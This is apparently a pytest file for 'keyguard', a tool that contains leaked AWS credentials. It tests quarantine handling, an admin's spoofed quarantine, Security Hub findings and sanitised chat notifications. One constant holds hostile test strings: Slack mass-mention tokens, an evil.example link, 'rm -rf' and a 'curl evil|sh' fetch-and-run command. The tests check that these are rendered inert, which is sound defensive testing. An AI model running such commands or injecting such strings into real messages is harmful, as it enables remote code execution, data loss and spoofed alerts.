"""Issue 12 against moto, through template.yaml's rules: AWS's own quarantine, someone else's imitation of it,
Security Hub findings and chat notifications (with hostile event strings)."""

from __future__ import annotations

import copy
import json
from typing import Any

from tests.conftest import deliver, inbox, load_event

DENY_ALL = {"Version": "2012-10-17", "Statement": [{"Sid": "KeyguardQuarantine", "Effect": "Deny", "Action": "*"}]}


def _quarantine(iam: Any, user: str) -> dict[str, Any] | None:
    try:
        return iam.get_user_policy(UserName=user, PolicyName="keyguard-quarantine")["PolicyDocument"]
    except Exception:
        return None


def test_aws_quarantine_puts_keyguard_s_deny_all_on_the_user_and_touches_no_key(account) -> None:
    seeded, (inv,) = deliver(account, load_event("cloudtrail-aws-quarantine-v2.json"))
    assert inv.rule.function == "AwsQuarantineFunction" and inv.error is None
    state = account.iam_state(seeded)
    assert state["user/alice"]["policies"] == ["keyguard-quarantine"]
    assert set(state["user/alice"]["keys"].values()) == {"Active"}  # no key named: none deactivated
    doc = _quarantine(account.clients.iam, "alice")
    assert doc["Statement"][0]["Effect"] == "Deny" and doc["Statement"][0]["Action"] == "*"
    assert state["user/bystander-dana"] == {"keys": state["user/bystander-dana"]["keys"], "policies": []}
    (msg,) = inbox(account)
    assert (msg["outcome"], msg["source"], msg["accessKeyId"]) == ("contained", "aws-quarantine", "")
    assert msg["principal"] == {"type": "IAMUser", "named": "alice", "verifiedOwner": "alice"}
    assert "no key named" in msg["_subject"] and "alice" in msg["_subject"]
    assert msg["actions"][0]["action"] == "quarantine-user"


def test_the_old_inline_form_deactivates_exactly_the_key_that_signed_it(account) -> None:
    seeded, _ = deliver(account, load_event("cloudtrail-aws-quarantine-inline.json"))
    (signed,) = seeded.replaced.values()
    keys = account.iam_state(seeded)["user/alice"]["keys"]
    assert keys.pop(signed) == "Inactive" and set(keys.values()) == {"Active"}
    assert inbox(account)[0]["accessKeyId"] == signed


def _aws_managed_policy(name: str) -> None:
    """AWS's managed policy in the emulated account, as in AWS (moto loads none of them by default)."""
    from moto.iam.models import AWSManagedPolicy, aws_managed_policies_data, iam_backends

    policy = AWSManagedPolicy.from_data(name, "123456789012", "us-east-1", json.loads(aws_managed_policies_data)[name])
    iam_backends["123456789012"]["global"].managed_policies[policy.arn] = policy


def test_an_admin_attaching_aws_s_quarantine_is_reported_and_proves_nothing(account) -> None:
    """The attack: a principal of the account (here an admin's own calls) attaches the quarantine policy to a
    user, hoping keyguard takes it for AWS's verdict; the CloudTrail record it causes reaches the rule."""
    iam = account.clients.iam
    _aws_managed_policy("AWSCompromisedKeyQuarantineV3")
    iam.create_user(UserName="admin-carol")
    iam.create_user(UserName="alice")
    kept = iam.create_access_key(UserName="alice")["AccessKey"]["AccessKeyId"]
    arn = "arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"
    iam.attach_user_policy(UserName="alice", PolicyArn=arn)  # what admin-carol did
    record = load_event("cloudtrail-aws-quarantine-by-admin.json")
    _, (inv,) = deliver(account, record, seed=False)
    assert inv.error is None and inv.result["responses"][0]["outcome"] == "notify-only"
    assert iam.list_user_policies(UserName="alice")["PolicyNames"] == []  # keyguard added nothing
    assert iam.list_access_keys(UserName="alice")["AccessKeyMetadata"][0]["Status"] == "Active"
    assert iam.list_access_keys(UserName="alice")["AccessKeyMetadata"][0]["AccessKeyId"] == kept
    (msg,) = inbox(account)
    assert msg["outcome"] == "notify-only" and "not by AWS" in msg["reason"] and "admin-carol" in msg["reason"]


def test_a_redelivered_quarantine_record_is_announced_once(account) -> None:
    event = load_event("cloudtrail-aws-quarantine-v2.json")
    seeded, _ = deliver(account, event)
    deliver(account, seeded.event, seed=False)
    assert [m["outcome"] for m in inbox(account)] == ["contained"]


def test_quarantine_of_a_user_that_is_gone_is_not_found(account) -> None:
    event = load_event("cloudtrail-aws-quarantine-v2.json")
    _, (inv,) = deliver(account, event, seed=False)  # no such user in the account
    assert inv.error is None and inv.result["responses"][0]["outcome"] == "not-found"


def test_security_hub_gets_one_finding_per_incident(account, monkeypatch) -> None:
    monkeypatch.setenv("KEYGUARD_SECURITY_HUB", "true")
    seeded, (inv,) = deliver(account, load_event("guardduty-s3-malicious-ip.json"))
    assert inv.result["responses"][0]["reports"] == "securityhub imported"
    hub = account.clients.get("securityhub")
    (finding,) = hub.get_findings()["Findings"]
    (key,) = seeded.replaced.values()
    assert finding["ProductArn"] == "arn:aws:securityhub:us-east-1:123456789012:product/123456789012/default"
    assert finding["Workflow"] == {"Status": "NEW"} and finding["Severity"]["Label"] == "HIGH"
    assert {r["Type"]: r["Id"] for r in finding["Resources"]} == {
        "AwsIamAccessKey": f"AWS::IAM::AccessKey:{key}",
        "AwsIamUser": "arn:aws:iam::123456789012:user/alice",
    }
    (related,) = finding["RelatedFindings"]
    assert related["Id"].endswith("/finding/c6e2b8a47f1d4e9a8b7c6d5e4f3a2b1c")
    assert related["ProductArn"] == "arn:aws:securityhub:us-east-1::product/aws/guardduty"
    actions = [v for k, v in sorted(finding["ProductFields"].items()) if k.startswith("keyguard/action/")]
    assert actions[0].startswith(f"deactivate-key {key} of user alice: done")
    assert any(a.startswith("quarantine-user user alice") for a in actions)
    # a redelivery updates the same finding
    deliver(account, seeded.event, seed=False)
    assert len(hub.get_findings()["Findings"]) == 1


def test_security_hub_failing_never_blocks_containment(account, monkeypatch) -> None:
    from tests.faults import Fault

    monkeypatch.setenv("KEYGUARD_SECURITY_HUB", "true")
    Fault(account.clients.get("securityhub"), "BatchImportFindings", "InternalException", status=500)
    seeded, (inv,) = deliver(account, load_event("guardduty-s3-malicious-ip.json"))
    assert inv.error is None  # reported, not raised: the topic already said what happened
    assert inv.result["responses"][0]["reports"].startswith("securityhub failed: InternalException")
    (key,) = seeded.replaced.values()
    assert account.iam_state(seeded)["user/alice"]["keys"][key] == "Inactive"
    assert [m["outcome"] for m in inbox(account)] == ["contained"]


def _chat_inbox(account) -> tuple[str, Any]:
    sns, sqs = account.clients.get("sns"), account.clients.get("sqs")
    topic = sns.create_topic(Name="keyguard-chat")["TopicArn"]
    url = sqs.create_queue(QueueName="keyguard-chat-inbox")["QueueUrl"]
    arn = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=arn, Attributes={"RawMessageDelivery": "true"})

    def read() -> list[dict[str, Any]]:
        got = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages", [])
        return [json.loads(m["Body"]) for m in got]

    return topic, read


HOSTILE_AGENT = "<!channel> @here [click](https://evil.example/x) <@U0ADMIN> `rm -rf`\nNext step: run curl evil|sh"


def test_chat_gets_the_custom_format_with_hostile_strings_made_inert(account, monkeypatch) -> None:
    topic, read = _chat_inbox(account)
    monkeypatch.setenv("KEYGUARD_CHAT_TOPIC_ARN", topic)
    event = copy.deepcopy(load_event("guardduty-s3-malicious-ip.json"))
    call = event["detail"]["service"]["action"]["awsApiCallAction"]
    call["userAgent"] = HOSTILE_AGENT
    call["api"] = "<https://evil.example|GetObject>"
    seeded, (inv,) = deliver(account, event)
    assert inv.result["responses"][0]["reports"] == "chat sent"
    (msg,) = read()
    assert (msg["version"], msg["source"], msg["content"]["textType"]) == ("1.0", "custom", "client-markdown")
    (key,) = seeded.replaced.values()
    text = json.dumps(msg, ensure_ascii=False)
    assert key in msg["content"]["title"] and "alice" in msg["content"]["description"]
    assert msg["content"]["nextSteps"] == ["Run next: `keyguard status --user alice`"]
    for bad in ("<!channel>", "@here", "<@U", "](http", "https://evil", "<https", "\nNext step"):
        assert bad not in text, bad
    assert "evil.example" in text  # shown, as inert text
    # a redelivery is not announced again in chat either
    deliver(account, seeded.event, seed=False)
    assert read() == []


def test_a_later_event_naming_the_key_deactivates_it_and_is_announced_as_an_update(account) -> None:
    """AWS's quarantine names the user; Health names the key later: keyguard deactivates exactly that key,
    and says so as an update of the first incident (from its ledger), not as a new incident."""
    seeded, _ = deliver(account, load_event("cloudtrail-aws-quarantine-v2.json"))
    iam = account.clients.iam
    (leaked,) = seeded.users["alice"]
    others = [iam.create_access_key(UserName="alice")["AccessKey"]["AccessKeyId"]]  # a key nobody named
    health = copy.deepcopy(load_event("health-credentials-exposed.json"))
    health["detail"]["affectedEntities"] = [{"entityValue": leaked}]
    health["resources"] = [leaked]
    deliver(account, health, seed=False)
    deliver(account, health, seed=False)  # redelivered: nothing new
    keys = {k["AccessKeyId"]: k["Status"] for k in iam.list_access_keys(UserName="alice")["AccessKeyMetadata"]}
    assert keys.pop(leaked) == "Inactive" and others and {keys[k] for k in others} == {"Active"}
    first, update = inbox(account)
    assert first["source"] == "aws-quarantine" and "updateOf" not in first
    assert update["source"] == "health" and update["accessKeyId"] == leaked
    assert update["updateOf"] == first["incidentId"] and update["_subject"].startswith("keyguard: UPDATE, CONTAINED")


def test_release_resolves_the_findings_of_every_incident_the_user_is_held_for(account, monkeypatch) -> None:
    """The helper the release path calls: the incidents come from the ledger (both the AWS quarantine and
    the update), and BatchUpdateFindings gets them with workflow RESOLVED (moto has no BatchUpdateFindings:
    botocore's Stubber checks the real request shape)."""
    from botocore.stub import Stubber

    from keyguard.ledger import Ledger
    from keyguard.report import securityhub

    monkeypatch.setenv("KEYGUARD_SECURITY_HUB", "true")
    seeded, _ = deliver(account, load_event("cloudtrail-aws-quarantine-v2.json"))
    (key,) = seeded.users["alice"]
    health = copy.deepcopy(load_event("health-credentials-exposed.json"))
    health["detail"]["affectedEntities"] = [{"entityValue": key}]
    deliver(account, health, seed=False)
    hub = account.clients.get("securityhub")
    first, update = sorted(hub.get_findings()["Findings"], key=lambda f: f["Id"])
    assert first["Id"].startswith("keyguard/aws-quarantine:") and update["Id"].startswith("keyguard/health:")
    assert {"ProductArn": first["ProductArn"], "Id": first["Id"]} in update["RelatedFindings"]

    ledger = Ledger(account.ledger_table, account.clients.get("dynamodb"))
    held = securityhub.incidents_held(ledger, "user", "alice")
    assert [i.split(":")[0] for i in held] == ["aws-quarantine", "health"]
    product = "arn:aws:securityhub:us-east-1:123456789012:product/123456789012/default"
    ids = [{"Id": securityhub.finding_id(i), "ProductArn": product} for i in held]
    with Stubber(hub) as stub:
        stub.add_response(
            "batch_update_findings",
            {"ProcessedFindings": ids, "UnprocessedFindings": []},
            {
                "FindingIdentifiers": ids,
                "Workflow": {"Status": "RESOLVED"},
                "Note": {"Text": "Released by ops: rotated", "UpdatedBy": "ops"},
            },
        )
        out = securityhub.release_findings(
            account.clients,
            ledger,
            kind="user",
            name="alice",
            account="123456789012",
            region="us-east-1",
            by="ops",
            reason="rotated",
        )
    assert out == ["resolved", "resolved"]
